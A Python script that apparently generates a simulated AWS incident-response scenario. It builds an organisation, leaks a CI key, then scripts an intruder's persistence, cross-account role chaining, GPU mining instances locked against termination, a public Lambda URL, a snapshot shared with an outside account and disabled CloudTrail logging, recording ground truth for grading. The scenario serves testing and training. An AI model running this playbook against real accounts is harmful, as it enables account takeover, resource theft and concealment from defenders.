"""Builds an organization of three accounts, leaks a key of it and attacks through that key, all with boto3.

    attack.py FRONT_URL > world.json

The document says what the thief made and became, what the owners have beside it, and whose keys are whose.
"""

import io
import json
import sys
import time
import zipfile

from world import OWNERS, RESPONDER, STRANGER, THIEF, Actor, door, plain, service_trust, trust

ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
TAGS = [{"Key": "Name", "Value": "web"}, {"Key": "team", "Value": "shop"}]


def main(url):
    world = {"credentials": {}, "resources": [], "touched": [], "innocent": [], "keys": {}}
    note = lambda kind, account, region, id, by: world["resources"].append(
        {"kind": kind, "account": account, "region": region, "id": id, "by": by})
    spare = lambda kind, account, region, id: world["innocent"].append({"kind": kind, "account": account, "region": region, "id": id})

    # ---- the owners' house ------------------------------------------------------------------------------------------------
    management = "111122223333"
    root = Actor(url, door(url, "root", {"account": management}))
    door(url, "source", {"key": root.id, "address": OWNERS})
    root("organizations").create_organization(FeatureSet="ALL")
    members = [root("organizations").create_account(Email=f"{name}@example.com", AccountName=name)["CreateAccountStatus"]["AccountId"]
               for name in ("shop", "data")]
    shop, data = members
    world["accounts"] = {"management": management, "shop": shop, "data": data}
    owners = {}
    for account in (management, shop, data):
        owner_root = root if account == management else Actor(url, door(url, "root", {"account": account}))
        door(url, "source", {"key": owner_root.id, "address": OWNERS})
        iam = owner_root("iam")
        iam.create_user(UserName="alice")
        iam.attach_user_policy(UserName="alice", PolicyArn=ADMIN)
        owners[account] = Actor(url, plain(iam.create_access_key(UserName="alice")["AccessKey"]))
        door(url, "source", {"key": owners[account].id, "address": OWNERS})
    alice = owners[shop]
    alice("iam").create_user(UserName="ci-runner", Path="/build/")
    alice("iam").attach_user_policy(UserName="ci-runner", PolicyArn=ADMIN)
    leaked = Actor(url, plain(alice("iam").create_access_key(UserName="ci-runner")["AccessKey"]))
    second = Actor(url, plain(alice("iam").create_access_key(UserName="ci-runner")["AccessKey"]))
    door(url, "source", {"key": second.id, "address": OWNERS})
    responder_iam = owners[management]("iam")
    responder_iam.create_user(UserName="responder")
    responder_iam.attach_user_policy(UserName="responder", PolicyArn=ADMIN)
    responder = Actor(url, plain(responder_iam.create_access_key(UserName="responder")["AccessKey"]))
    door(url, "source", {"key": responder.id, "address": RESPONDER})

    alice("iam").create_role(RoleName="build", AssumeRolePolicyDocument=trust(f"arn:aws:iam::{shop}:root"))
    alice("iam").create_role(RoleName="data-pipeline", AssumeRolePolicyDocument=service_trust("glue.amazonaws.com"))
    alice("iam").create_role(RoleName="function", AssumeRolePolicyDocument=service_trust("lambda.amazonaws.com"))
    owners[data]("iam").create_role(RoleName="deploy", AssumeRolePolicyDocument=trust(f"arn:aws:iam::{shop}:root", data))
    root_of = f"arn:aws:iam::{data}:root"
    owners[management]("iam").create_role(RoleName="billing-export", AssumeRolePolicyDocument=trust(root_of))
    for account, role in ((shop, "build"), (data, "deploy"), (management, "billing-export")):
        owners[account]("iam").attach_role_policy(RoleName=role, PolicyArn=ADMIN)

    ami = "ami-0abcdef1234567890"
    for account, regions in ((shop, ("us-east-1", "eu-west-1", "eu-central-1")), (data, ("us-west-2", "us-east-1"))):
        for region in regions:
            spare("aws.ec2.instance", account, region, launch(owners[account], region, ami, "t3.large"))
    owner_build = alice.become(shop, "build", "alice")
    door(url, "source", {"key": owner_build.id, "address": OWNERS})
    spare("aws.ec2.instance", shop, "ap-southeast-1", launch(owner_build, "ap-southeast-1", ami, "t3.large"))
    group = alice("ec2").create_security_group(GroupName="web-sg", Description="shop front")["GroupId"]
    volume = alice("ec2").create_volume(AvailabilityZone="us-east-1a", Size=20)["VolumeId"]
    scale(alice, "us-east-1", "web", ami, 2)
    spare("aws.autoscaling.group", shop, "us-east-1", "web")
    spare("aws.ec2.volume", shop, "us-east-1", volume)
    alice("s3").create_bucket(Bucket="shop-trail-bucket")
    alice("cloudtrail").create_trail(Name="house", S3BucketName="shop-trail-bucket")
    alice("cloudtrail").start_logging(Name="house")
    spare("aws.lambda.function", shop, "eu-west-1", function(alice, "eu-west-1", "checkout", shop))
    second("sts").get_caller_identity()

    # ---- the thief --------------------------------------------------------------------------------------------------------
    door(url, "source", {"key": leaked.id, "address": THIEF})
    leaked("sts").get_caller_identity()
    leaked("iam").list_users()
    leaked("ec2").describe_instances()
    try:
        leaked("iam").get_user(UserName="no-such-user")
    except leaked("iam").exceptions.NoSuchEntityException:
        pass

    token = Actor(url, plain(leaked("sts").get_session_token()["Credentials"]))
    federated = Actor(url, plain(leaked("sts").get_federation_token(Name="backup")["Credentials"]))
    build = leaked.become(shop, "build", "i-0build", "eu-west-1")
    deploy = build.become(data, "deploy", "i-0build", "us-west-2")
    billing = deploy.become(management, "billing-export", "i-0build", "eu-west-2")
    for actor in (token, federated, build, deploy, billing):
        door(url, "source", {"key": actor.id, "address": THIEF})
    federated("ec2").describe_instances()

    iam = leaked("iam")
    thiefs = iam.create_user(UserName="backup-svc")["User"]["Arn"]
    iam.attach_user_policy(UserName="backup-svc", PolicyArn=ADMIN)
    backdoor = Actor(url, plain(iam.create_access_key(UserName="backup-svc")["AccessKey"]))
    door(url, "source", {"key": backdoor.id, "address": THIEF})
    iam.create_login_profile(UserName="backup-svc", Password="Correct-Horse-7", PasswordResetRequired=False)
    specific = iam.create_service_specific_credential(UserName="backup-svc", ServiceName="bedrock.amazonaws.com")
    world["service_specific"] = specific["ServiceSpecificCredential"]["ServiceSpecificCredentialId"]
    note("aws.iam.user", shop, "us-east-1", thiefs, "leaked")
    iam.update_assume_role_policy(RoleName="data-pipeline", PolicyDocument=trust(f"arn:aws:iam::{STRANGER}:root"))
    world["touched"].append({"kind": "aws.iam.role", "account": shop, "id": "data-pipeline"})

    for actor, name, account, region, kind, held in (
        (leaked, "leaked", shop, "us-east-1", "p3.16xlarge", True), (leaked, "leaked", shop, "eu-west-1", "g5.12xlarge", False),
        (token, "token", shop, "eu-central-1", "p3.16xlarge", True), (build, "build", shop, "ap-southeast-1", "g5.12xlarge", True),
        (build, "build", shop, "sa-east-1", "p3.16xlarge", False), (deploy, "deploy", data, "us-west-2", "p3.16xlarge", True),
        (deploy, "deploy", data, "us-east-2", "g5.12xlarge", False), (billing, "billing", management, "eu-west-2", "p3.16xlarge", True),
        (backdoor, "backdoor", shop, "ca-central-1", "g5.12xlarge", False),
    ):
        instance = launch(actor, region, ami, kind)
        note("aws.ec2.instance", account, region, instance, name)
        if held:
            for attribute in ("DisableApiTermination", "DisableApiStop"):
                actor("ec2", region).modify_instance_attribute(InstanceId=instance, **{attribute: {"Value": True}})

    template = scale(deploy, "us-west-2", "workers", ami, 3, "p3.2xlarge")
    note("aws.autoscaling.group", data, "us-west-2", "workers", "deploy")
    for each in deploy("autoscaling", "us-west-2").describe_auto_scaling_groups()["AutoScalingGroups"][0]["Instances"]:
        note("aws.ec2.instance", data, "us-west-2", each["InstanceId"], "workers")
    note("aws.ec2.launch_template", data, "us-west-2", template, "deploy")
    helper = function(build, "eu-west-1", "helper", shop)
    note("aws.lambda.function", shop, "eu-west-1", helper, "build")
    note("aws.lambda.permission", shop, "eu-west-1", f"{helper}/public", "build")
    build("lambda", "eu-west-1").add_permission(
        FunctionName="helper", StatementId="public", Action="lambda:InvokeFunctionUrl", Principal="*", FunctionUrlAuthType="NONE")
    url_of = build("lambda", "eu-west-1").create_function_url_config(FunctionName="helper", AuthType="NONE")["FunctionUrl"]
    note("aws.lambda.function_url", shop, "eu-west-1", url_of, "build")
    ecs = deploy("ecs", "us-east-1")
    cluster = ecs.create_cluster(clusterName="batch")["cluster"]["clusterArn"]
    task = ecs.register_task_definition(family="miner", containerDefinitions=[{"name": "m", "image": "example.com/m:1", "memory": 512}],
                                 networkMode="awsvpc", requiresCompatibilities=["FARGATE"], cpu="4096", memory="8192")["taskDefinition"]["taskDefinitionArn"]
    service = ecs.create_service(
        cluster="batch", serviceName="miner", taskDefinition="miner", desiredCount=3, launchType="FARGATE")["service"]["serviceArn"]
    for kind, id in (("aws.ecs.service", service), ("aws.ecs.cluster", cluster), ("aws.ecs.task_definition", task)):
        note(kind, data, "us-east-1", id, "deploy")
    snapshot = leaked("ec2").create_snapshot(VolumeId=volume)["SnapshotId"]
    leaked("ec2").modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", UserIds=[STRANGER])
    note("aws.ec2.snapshot", shop, "us-east-1", snapshot, "leaked")
    leaked("ec2").authorize_security_group_ingress(GroupId=group, IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    world["touched"].append({"kind": "aws.ec2.security_group", "account": shop, "id": group})
    pair = leaked("ec2").create_key_pair(KeyName="backup")["KeyPairId"]
    note("aws.ec2.key_pair", shop, "us-east-1", pair, "leaked")
    leaked("cloudtrail").stop_logging(Name="house")
    world["touched"].append({"kind": "aws.cloudtrail.trail", "account": shop, "id": "house"})

    # ---- and the owners go on, in the same second --------------------------------------------------------------------------
    spare("aws.ec2.instance", shop, "sa-east-1", launch(alice, "sa-east-1", ami, "t3.large"))
    world["credentials"] = {name: actor.id for name, actor in (
        ("leaked", leaked), ("token", token), ("federated", federated), ("build", build), ("deploy", deploy),
        ("billing", billing), ("backdoor", backdoor))}
    world["keys"] = {name: actor.keys for name, actor in (
        ("leaked", leaked), ("second", second), ("token", token), ("federated", federated), ("build", build), ("deploy", deploy),
        ("billing", billing), ("backdoor", backdoor), ("alice", alice), ("owner_build", owner_build), ("responder", responder),
        ("owner_data", owners[data]), ("owner_management", owners[management]))}
    world["regions"] = sorted({each["region"] for each in world["resources"] + world["innocent"]})
    world["made_at"] = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    return world


def launch(actor, region, ami, kind):
    """Owners and thief launch under the same name and tags."""
    return actor("ec2", region).run_instances(
        ImageId=ami, InstanceType=kind, MinCount=1, MaxCount=1,
        TagSpecifications=[{"ResourceType": "instance", "Tags": TAGS}])["Instances"][0]["InstanceId"]


def scale(actor, region, name, ami, size, kind="t3.large"):
    template = actor("ec2", region).create_launch_template(
        LaunchTemplateName=f"{name}-template", LaunchTemplateData={"ImageId": ami, "InstanceType": kind})["LaunchTemplate"]["LaunchTemplateId"]
    actor("autoscaling", region).create_auto_scaling_group(
        AutoScalingGroupName=name, MinSize=size, MaxSize=size + 1, DesiredCapacity=size, AvailabilityZones=[f"{region}a"],
        LaunchTemplate={"LaunchTemplateId": template, "Version": "$Latest"})
    return template


def function(actor, region, name, account):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as files:
        files.writestr("index.py", "def test(event, context):\n    return 1\n")
    return actor("lambda", region).create_function(
        FunctionName=name, Runtime="python3.12", Role=f"arn:aws:iam::{account}:role/function", Handler="index.test",
        Code={"ZipFile": packed.getvalue()})["FunctionArn"]


if __name__ == "__main__":
    json.dump(main(sys.argv[1]), sys.stdout, indent=1)
